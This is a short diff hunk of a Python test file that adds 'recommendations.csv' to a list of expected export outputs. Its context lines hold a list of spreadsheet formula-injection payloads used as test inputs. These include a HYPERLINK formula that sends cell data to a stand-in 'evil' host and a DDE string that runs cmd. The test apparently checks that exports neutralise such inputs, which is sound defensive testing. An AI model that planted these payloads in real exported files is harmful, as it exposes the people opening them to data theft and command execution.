@@ -21,7 +21,7 @@ from tests.conftest import ROOT
 
 HOSTILE = ["=HYPERLINK(\"http://evil/\"&A1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "＝1+1"]
 OUTPUTS = {"documents.csv", "actions.csv", "milestones.csv", "ratings.csv", "indicators.csv", "leftovers.csv",
-           "indicator_values.csv",
+           "indicator_values.csv", "recommendations.csv",
            "plans.sqlite", "plans.sqlite-wal", "plans.sqlite-shm", "datapackage.json", "metadata.json", "report.html"}
 
 
